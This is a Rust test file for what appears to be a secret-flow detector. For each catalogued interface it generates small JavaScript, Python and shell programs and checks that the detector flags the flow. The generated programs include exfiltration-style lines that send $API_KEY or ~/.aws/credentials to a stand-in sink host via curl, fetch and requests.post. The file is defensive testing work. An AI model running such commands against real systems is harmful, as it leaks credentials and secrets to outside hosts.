//! Every interface that a catalogue of `signatures/flows` names is reached: for each row a program is written that uses
//! it, and the interpreter must see of that program what the row says.

#[path = "interfaces/program.rs"]
mod program;

use std::fs;

use toml::Value;

use program::Language::{self, JavaScript, Python, Shell};
use program::{ADDRESS, Hit, Row, SINK, arguments, command, position, rows, secret};

fn is_source_reached(language: Language, row: &Row) -> bool {
    let name = match row.class.as_str() {
        "env" => "\"API_KEY\"",
        "file" => "\"/home/me/.aws/credentials\"",
        "fetched" => "\"https://feed.example.net/x\"",
        _ => "\"hostname\"",
    };
    let programs = if language == Shell {
        let name = match row.name.as_ref().and_then(Value::as_str) {
            // Some take a pattern or a script first.
            Some("operand" | "operands") if row.class == "file" => format!(". {name}"),
            Some("operand" | "operands") => name.to_owned(),
            Some(option) => format!("{option} {name}"),
            None => String::new(),
        };
        vec![language.sends("", &format!("{} {name}", command(&row.api)))]
    } else if row.members {
        let (lines, expression) = language.expression(&row.api, &[], None);
        vec![language.sends(&lines, &format!("{expression}[\"API_KEY\"]"))]
    } else if row.read {
        let (lines, expression) = language.expression(&row.api, &[], None);
        vec![language.sends(&lines, &expression)]
    } else {
        let at = position(row.name.as_ref());
        let list = at.map_or_else(String::new, |at| arguments(&[(at, name)]));
        let (lines, call) = language.expression(&row.api, &[], Some(&list));
        let (lines, call) = match row.api.strip_prefix("?.") {
            Some(_) if language == Python => {
                ("from pathlib import Path\n".to_owned(), call.replace("thing", &format!("Path({name})")))
            }
            _ => (lines, call),
        };
        let mut programs = vec![language.sends(&lines, &call)];
        if language == JavaScript {
            // What gives later gives to a function.
            let given = if list.is_empty() { "\"data\"".to_owned() } else { list };
            let (lines, call) = language.expression(&row.api, &[], Some(&format!("{given}, (one) => send(one)")));
            programs.push(language.sends(&lines, &call));
        }
        programs
    };
    let is_given = |hit: &Hit| hit.class == "network" && hit.labels.contains(&row.class);
    programs.iter().any(|program| language.hits(program).iter().any(is_given))
}

/// Whether a secret, or what is known, reaches each argument that the row names.
fn is_sink_reached(language: Language, row: &Row) -> bool {
    let host = position(row.host.as_ref());
    let path = position(row.path.as_ref());
    let is_reached = |hit: &Hit| {
        hit.class == row.class
            && (hit.labels.iter().any(|class| class == "env") || hit.content.iter().any(|text| text.contains("mark")))
    };
    row.args.iter().all(|arg| {
        let programs: Vec<String> = if language == Shell {
            let name = command(&row.api);
            let host = match row.host.as_ref().and_then(Value::as_str) {
                Some(option) if option.starts_with('-') => format!("{option} sink.example.net"),
                _ => "sink.example.net".to_owned(),
            };
            vec![match arg.as_str() {
                Some("stdin") => format!("printenv API_KEY | {name} {host}\n"),
                Some("operands") => format!("{name} \"$API_KEY.sink.example.net\"\n{name} \"$API_KEY\" {host}:/x\n"),
                Some(option) => format!("{name} {option} \"$API_KEY\" {host}\n"),
                None => String::new(),
            }]
        } else {
            let at = position(Some(arg)).unwrap_or(host.or(path).map_or(0, |at| at + 1));
            let of = |value| {
                let mut places = vec![(at, value)];
                places.extend(host.filter(|host| *host != at).map(|host| (host, ADDRESS)));
                places.extend(path.filter(|path| *path != at).map(|path| (path, "\"/tmp/note\"")));
                let (lines, call) = language.expression(&row.api, &[ADDRESS], Some(&arguments(&places)));
                format!("{}{lines}{call}\n", secret(language))
            };
            let (lines, member) = language.expression(&row.api, &["\"img\""], None);
            let receiver = format!("{member}()").replace("thing", "secret");
            let set =
                [format!("{member} = secret"), receiver].map(|line| format!("{}{lines}{line}\n", secret(language)));
            [of("secret"), of("\"mark(1)\"")].into_iter().chain(set).collect()
        };
        programs.iter().any(|program| language.hits(program).iter().any(is_reached))
    })
}

/// Whether a file is written whose path ends with `end`, by a program with `expression` as that path.
fn is_path(language: Language, lines: &str, expression: &str, end: &str) -> bool {
    let program = match language {
        JavaScript => format!("{lines}require(\"fs\").writeFileSync(\"/tmp/\" + {expression}, \"x\");\n"),
        _ => format!("{lines}open(f\"/tmp/{{{expression}}}\", \"w\").write(\"x\")\n"),
    };
    let is_written = |hit: &Hit| hit.class == "file-write" && hit.paths.iter().any(|path| path.ends_with(end));
    language.hits(&program).iter().any(is_written)
}

fn is_constant_reached(language: Language, row: &Row) -> bool {
    let (lines, expression) = language.expression(&row.api, &[], None);
    is_path(language, &lines, &expression, row.text.trim_start_matches("./"))
}

/// Lines of `fixtures/interfaces`: whom they are for, and the program in which `@` stands for it: a function, or a method
/// with its dot.
fn samples(language: Language) -> Vec<(String, String)> {
    let path = format!("{}/fixtures/interfaces/{}.txt", env!("CARGO_MANIFEST_DIR"), language.name());
    let text = fs::read_to_string(&path).unwrap_or_else(|error| panic!("{path}: {error}"));
    let lines = text.lines().filter(|line| line.starts_with("fold ") || line.starts_with("effect "));
    let parts = lines.map(|line| line.split_once(": ").unwrap_or_else(|| panic!("{path}: no program in `{line}`")));
    parts.map(|(key, program)| (key.to_owned(), program.to_owned())).collect()
}

/// Whether a sample does what it says with the interface of this name: gives the text behind its last ` = `, or lets
/// something through (or does not, if it begins so).
fn holds(language: Language, (key, sample): &(String, String), lines: &str, name: &str) -> bool {
    let text = sample.rsplit_once(" = ").filter(|_| key.starts_with("fold "));
    if let Some((expression, end)) = text {
        return is_path(language, lines, &expression.replace('@', name), end);
    }
    let is_let_through = |hit: &Hit| {
        let is_of = |wanted: &[&str]| hit.labels.iter().any(|class| wanted.contains(&class.as_str()));
        match hit.class.as_str() {
            "network" => is_of(&["env", "file"]),
            "code" | "process" => is_of(&["env", "fetched"]) || hit.content.iter().any(|text| text.contains("mark")),
            _ => false,
        }
    };
    let (is_wanted, sample) = sample.strip_prefix("not ").map_or((true, sample.as_str()), |rest| (false, rest));
    let before = match language {
        JavaScript => format!("const send = (value) => fetch(\"{SINK}\", {{ method: \"POST\", body: value }});\n"),
        _ => format!("import requests\nsend = lambda value: requests.post(\"{SINK}\", data=value)\n"),
    };
    let program = sample.replace('@', name).replace("; ", "\n");
    language.hits(&format!("{before}{}{lines}{program}\n", secret(language))).iter().any(is_let_through) == is_wanted
}

/// Whether a sample holds: the interface's own if there is one, or else one of what it does.
fn is_done(language: Language, table: &str, does: &str, row: &Row) -> bool {
    let (lines, name) = named(language, row);
    let form = if row.api.starts_with("?.") { "method" } else { "function" };
    let all = samples(language);
    let own = format!("{table} {}", row.api);
    let key = if all.iter().any(|(key, _)| *key == own) { own } else { format!("{table} {does} {form}") };
    all.iter().filter(|(of, _)| *of == key).any(|sample| holds(language, sample, &lines, &name))
}

fn is_fold_reached(language: Language, row: &Row) -> bool {
    is_done(language, "fold", &row.op, row)
}

fn is_effect_reached(language: Language, row: &Row) -> bool {
    is_done(language, "effect", &row.does, row)
}

/// The interface as samples name it, after the lines that it needs.
fn named(language: Language, row: &Row) -> (String, String) {
    match row.api.strip_prefix('?') {
        Some(method) => (String::new(), method.to_owned()),
        None => language.expression(&row.api, &[], None),
    }
}

/// Whether nothing of a secret gets through it, where something gets past it.
fn is_sanitizer_reached(language: Language, row: &Row) -> bool {
    let program = match language {
        Shell => {
            let past = language.sends("", "printenv API_KEY");
            past + &language.sends("", &format!("printenv API_KEY | {}", command(&row.api)))
        }
        _ => {
            let (lines, call) = language.expression(&row.api, &["secret"], Some("secret"));
            let (_, read) = language.expression(&row.api, &["secret"], None);
            let form = match row.api.as_str() {
                "?.length" => read.replace("thing", "secret"),
                api if api.starts_with("?.") => call.replace("thing", "secret").replace("(secret)", "()"),
                _ => call,
            };
            let past = language.sends(secret(language), "secret").replace("main", "past");
            past + &language.sends(&lines, &form).replace("const send = ", "const send_again = ")
        }
    };
    let is_sent = |hit: &&Hit| hit.class == "network" && hit.labels.iter().any(|class| class == "env");
    language.hits(&program).iter().filter(is_sent).count() == 1
}

type Check = fn(Language, &Row) -> bool;

const CHECKS: [(&str, Check); 6] = [
    ("source", is_source_reached),
    ("sink", is_sink_reached),
    ("constant", is_constant_reached),
    ("fold", is_fold_reached),
    ("effect", is_effect_reached),
    ("sanitizer", is_sanitizer_reached),
];

/// Whether something that goes by the other name is reached by this one.
fn is_alias_reached(language: Language, alias: &Row) -> bool {
    let mut is_used = false;
    for (table, check) in CHECKS {
        for row in rows(language, table).into_iter().filter(|row| !row.api.starts_with("?.")) {
            let rest = row.api.strip_prefix(&alias.is).filter(|rest| rest.is_empty() || rest.starts_with(['.', '(']));
            let rest = rest.map(str::to_owned).or_else(|| (alias.is == "globalThis").then(|| format!(".{}", row.api)));
            let Some(rest) = rest else { continue };
            is_used = true;
            if check(language, &Row { api: format!("{}{rest}", alias.api), ..row }) {
                return true;
            }
        }
    }
    // It may be another name of a name.
    !is_used
        && rows(language, "alias").iter().any(|next| {
            let rest = next.api.strip_prefix(&alias.is).filter(|rest| rest.starts_with('.'));
            rest.is_some_and(|rest| {
                is_alias_reached(language, &Row { api: format!("{}{rest}", alias.api), ..next.clone() })
            })
        })
}

fn assert_reached(language: Language) {
    let mut missed = Vec::new();
    for (table, check) in CHECKS.into_iter().chain([("alias", is_alias_reached as Check)]) {
        let rows = rows(language, table);
        missed.extend(
            rows.iter()
                .filter(|row| !check(language, row))
                .map(|row| format!("{table} {} {}{}", row.api, row.op, row.does)),
        );
    }
    assert!(missed.is_empty(), "{} of {} are not reached:\n{}", missed.len(), language.name(), missed.join("\n"));
}

#[test]
fn those_of_javascript_are_reached() {
    assert_reached(JavaScript);
}

#[test]
fn those_of_python_are_reached() {
    assert_reached(Python);
}

/// A sample that holds for a name that nobody knows says nothing.
#[test]
fn samples_need_what_they_name() {
    for language in [JavaScript, Python] {
        let all = samples(language);
        let is_method = |key: &str| key.ends_with(" method") || key.contains(" ?.");
        let name = |key: &str| if is_method(key) { ".unheard" } else { "unheard" };
        let idle = all.iter().filter(|(_, program)| program.contains('@'));
        let idle: Vec<_> = idle.filter(|sample| holds(language, sample, "", name(&sample.0))).collect();
        assert!(idle.is_empty(), "{}: {idle:#?}", language.name());
    }
}

#[test]
fn those_of_shells_are_reached() {
    assert_reached(Shell);
}

#[test]
fn programs_that_run_another_are_looked_through() {
    let all = rows(Shell, "program");
    let wrappers: Vec<&Row> = all.iter().filter(|row| row.wraps.is_some()).collect();
    assert!(wrappers.len() > 10, "{wrappers:?}");
    for row in wrappers {
        let operands = "x ".repeat(row.wraps.unwrap_or_default());
        let program = format!("{} {operands}curl -d \"$API_KEY\" {SINK}\n", command(&row.api));
        assert!(Shell.hits(&program).iter().any(|hit| hit.class == "network"), "{program}");
    }
}

#[test]
fn files_that_options_name_are_read() {
    for row in rows(Shell, "program") {
        let behind_at = row.at_files.iter().map(|option| (option, "@"));
        for (option, at) in row.files.iter().map(|option| (option, "")).chain(behind_at) {
            // Operands are named by no option.
            let (option, last) = match option.as_str() {
                "operands" => ("", "\"$to\""),
                "last" => ("\"$to\"", ""),
                option => (option, "\"$to\""),
            };
            let program = format!("to={SINK}\n{} {option} {at}/home/me/.aws/credentials {last}\n", command(&row.api));
            let is_sent = |hit: &Hit| hit.labels.iter().any(|class| class == "file");
            assert!(Shell.hits(&program).iter().any(is_sent), "{program}");
        }
    }
}
